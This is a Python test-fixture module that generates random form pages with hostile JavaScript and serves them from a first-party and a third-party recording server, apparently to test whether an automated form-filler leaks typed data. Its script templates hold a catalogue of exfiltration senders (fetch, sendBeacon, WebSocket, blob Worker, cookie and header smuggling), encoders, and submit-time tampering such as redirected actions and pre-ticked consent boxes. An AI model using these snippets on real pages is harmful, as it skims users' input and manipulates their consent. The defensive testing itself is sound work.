"""Pages that help the attacker: made from a seed, served by a first and a third party that keep all that arrives."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from tests.parts.recording import Arrived, RecordingSite, Reply

HTML = (("Content-Type", "text/html; charset=utf-8"),)

AFTER = "after=typed"
"""Stands in every address and body that a page makes once something was typed: none of those may arrive unapproved."""

_ENCODERS = (
    "v => v", "v => btoa(unescape(encodeURIComponent(v)))", "v => [...v].reverse().join('')",
    "v => [...new TextEncoder().encode(v)].map(b => b.toString(16).padStart(2, '0')).join('')",
    "v => [...v].map(c => c.charCodeAt(0)).join(',')", "v => encodeURIComponent(encodeURIComponent(v))",
    "v => v.slice(0, v.length / 2)",
)

_SENDERS = (
    "fetch(u, {mode: 'no-cors'})",
    "fetch(u, {method: 'POST', mode: 'no-cors', body: d})",
    "fetch(u, {method: 'POST', mode: 'no-cors', keepalive: true, body: d})",
    "navigator.sendBeacon(u, d)",
    "new Image().src = u",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: u}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: u}))",
    "window.open(u, '_blank')",
    "location.href = u",
    "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh',"
    " content: '0; url=' + u}))",
    "(() => { const f = Object.assign(document.createElement('form'), {method: 'post', action: u, target: '_blank'});"
    " f.append(Object.assign(document.createElement('input'), {name: 'd', value: d})); document.body.append(f);"
    " f.submit(); })()",
    "new WebSocket(u.replace('http', 'ws'))",
    "new EventSource(u)",
    "new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(u)}, {mode: 'no-cors'}).catch(() => 0)`])))",
    "(document.cookie = 'stolen=' + encodeURIComponent(d) + '; path=/', fetch('/ping', {cache: 'reload'}))",
    "(history.replaceState(0, '', '/?' + encodeURIComponent(d)), fetch('/ping', {cache: 'reload'}))",
    "fetch('/ping', {cache: 'reload', headers: {'X-Data': encodeURIComponent(d)}})",
    "document.querySelectorAll('a').forEach(a => a.href = u)",
    "document.forms[0] && (document.forms[0].action = u)",
    "addEventListener('pagehide', () => navigator.sendBeacon(u, d))",
    "setTimeout(() => fetch(u, {mode: 'no-cors', method: 'POST', body: d}).catch(() => 0), 700)",
)

_AT_SUBMIT = (
    "f.append(Object.assign(document.createElement('input'), {type: 'hidden', name: 'added', value: all()}))",
    "f.querySelectorAll('input').forEach(i => { if (i.type === 'text') i.value = i.value + 'x'; })",
    "f.querySelectorAll('[type=checkbox]').forEach(i => { i.checked = true; })",
    "f.action = TO + '/taken?after=typed'",
    "setTimeout(() => f.submit(), 30)",
    "navigator.sendBeacon('/copy?after=typed', all())",
    "f.querySelectorAll('input').forEach(i => { if (i.type === 'text') i.type = 'password'; })",
    "fetch('/json?after=typed', {method: 'POST', headers: {'Content-Type': 'application/json'},"
    " body: JSON.stringify(Object.fromEntries(new FormData(f)))}); e.preventDefault()",
)

_FIELDS = (
    '<p><label>First name <input name="given"></label></p>',
    '<p><label>Surname <input name="family"></label></p>',
    '<p><label>E-mail <input name="email"></label></p>',
    '<p><label>Postcode <input name="postcode" autocomplete="postal-code"></label></p>',
    '<p><label>Meter reading <input name="reading"></label></p>',
    '<p><label>Account number <input name="account"></label></p>',
    '<p><label>Comments <textarea name="comments"></textarea></label></p>',
    '<p><label>Country <select name="country"><option value="">Choose</option><option value="FR">France</option>'
    '<option value="GB">United Kingdom</option></select></label></p>',
    '<p><label>Password <input name="password" type="password"></label></p>',
    '<p><label>Document <input name="document" type="file"></label></p>',
    '<p><label><input name="consent_news" type="checkbox"> I agree to receive marketing offers</label></p>',
    '<p><label><input name="consent_pre" type="checkbox" checked> I accept the newsletter</label></p>',
    '<p><label><input name="declaration_true" type="checkbox"> I declare that all this is true</label></p>',
    '<fieldset><legend>How do you pay?</legend><label><input type="radio" name="plan" value="none"> Not at all</label>'
    '<label><input type="radio" name="plan" value="monthly"> £9 monthly subscription</label></fieldset>',
    '<input type="hidden" name="ref" value="r-1">', '<input type="hidden" name="csrf_token" value="q8Zk2Lw9Tt41mmXc">',
    '<div contenteditable="true" aria-label="Notes" style="min-height:20px;border:1px solid">…</div>',
)

_BUTTONS = ('<button>Next</button>', '<button>Submit</button>', '<button name="do" value="pay">Pay now</button>',
            '<button type="button" onclick="document.forms[0].requestSubmit()">Continue</button>',
            '<input type="submit" value="Send">', '<button formaction="@THIRD@/formaction">Save</button>')


@dataclass
class Scene:
    """One seed's pages and how its first party answers what is sent to it."""

    pages: dict[str, str]
    answers: str
    third_pages: dict[str, str] = field(default_factory=dict)


def make_scene(chance: random.Random, first: str, third: str) -> Scene:
    """The pages of one seed: between an ordinary form and every trick at once."""
    hostile = chance.random() < 0.8
    answers = chance.choice(["thanks", "thanks", "next", "see-other", "again-third", "elsewhere", "error", "die"])
    pages = {"/": _page(chance, third, hostile), "/next": _page(chance, third, hostile, step=2),
             "/start": '<h1>Service</h1><p><a href="/">Start now</a> <a href="/next">Submit my meter reading</a></p>'
                       f'<p><a href="{third}/partner">Partner</a> <a href="file:///etc/passwd">Help</a></p>'}
    third_pages = {"/frame": _page(chance, first, hostile), "/partner": _page(chance, first, hostile)}
    return Scene(pages, answers, third_pages)


def _page(chance: random.Random, third: str, hostile: bool, step: int = 1) -> str:
    fields = "".join(chance.sample(_FIELDS, chance.randint(3, 9)))
    buttons = "".join(chance.sample(_BUTTONS, chance.randint(1, 2)))
    how = chance.choice(["post", "post", "post", "get"])
    kind = chance.choice(["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
    action = chance.choice([f"/send{step}", f"/send{step}", "", f"{third}/send"]) if hostile else f"/send{step}"
    extra = ""
    if hostile:
        extra = "".join(chance.sample([
            f'<iframe src="{third}/frame" width="400" height="200"></iframe>', f'<img src="{third}/0.png">',
            f'<a href="{third}/link">A link</a> <a href="/next">On</a>', '<a href="javascript:go(\'link\')">Go</a>',
            f'<button type="button" onclick="fetch(\'{third}/pressed\', {{mode: \'no-cors\'}})">More</button>',
            '<p>By continuing you agree to the terms.</p>', '<p>Total: £120.00 a month</p>',
            '<p data-known="file:///etc/passwd chrome://settings view-source:/ "></p><a href="data:text/html,x">d</a>',
        ], chance.randint(0, 5)))
    script = _script(chance, third) if hostile else ""
    return (f'<!doctype html><html lang="en"><title>Form</title><h1>Your reading</h1>'
            f'<form method="{how}" action="{action}" enctype="{kind}">{fields}{buttons}</form>{extra}'
            f'{script}</html>').replace("@THIRD@", third)


def _script(chance: random.Random, third: str) -> str:
    senders = chance.sample(_SENDERS, chance.randint(1, 6))
    submits = chance.sample(_AT_SUBMIT, chance.randint(0, 2))
    calls = "\n".join(
        f"quiet(() => {{ const d = AFTER + '&' + ({chance.choice(_ENCODERS)})(v), "
        f"u = {json.dumps(chance.choice([third, '']))} + '/s{n}?' + d.replaceAll(' ', '_'); return {sender}; }});"
        for n, sender in enumerate(senders))
    at_submit = "\n".join(f"quiet(() => {{ {code}; }});" for code in submits)
    return f"""<script>
const TO = {json.dumps(third)}, AFTER = {json.dumps(AFTER)};
const quiet = (f) => {{ try {{ const p = f(); p?.catch?.(() => 0); return p; }} catch (e) {{}} }};
const all = () => [...document.querySelectorAll('input, textarea, [contenteditable]')].map(
  e => e.value ?? e.textContent).join('|');
let left = 3;
const go = (v) => {{ if (left-- <= 0) return; {calls} }};
addEventListener('input', () => go(all()), true);
addEventListener('change', (e) => {{ const file = e.target.files?.[0];
  if (file) file.text().then((t) => go('file ' + t)); }}, true);
document.querySelector('form').addEventListener('submit', (e) => {{ const f = e.target; {at_submit} }});
</script>"""


class World:
    """The two servers, for any number of seeds one after another."""

    def __init__(self) -> None:
        self.scene = Scene({}, "thanks")
        self.first = RecordingSite(answerer=self._first)
        self.third = RecordingSite(answerer=self._third)

    def set(self, scene: Scene) -> None:
        """Clears what arrived and serves another scene."""
        self.scene = scene
        self.first.pages, self.third.pages = scene.pages, scene.third_pages
        self.first.arrived.clear()
        self.third.arrived.clear()

    def _first(self, request: Arrived) -> Reply:
        if not urlsplit(request.target).path.startswith("/send"):
            return Reply(body=b"<p>ok</p>")
        third = self.third.url
        return {
            "thanks": Reply(body=b"<h1>Thank you, we have received your reading</h1><p>Reference: TT-40912</p>"),
            "next": Reply(303, headers=(("Location", "/next"),)),
            "see-other": Reply(303, headers=(("Location", f"{third}/landing"),)),
            "again-third": Reply(307, headers=(("Location", f"{third}/again"),)),
            "elsewhere": Reply(308, headers=(("Location", "/elsewhere"),)),
            "error": Reply(500, body=b"<h1>Sorry</h1>"),
            "die": Reply(die=True),
        }[self.scene.answers]

    def _third(self, _request: Arrived) -> Reply:
        return Reply(body=b"<h1>Third</h1><form action=/x method=post><input name=q><button>Go</button></form>")
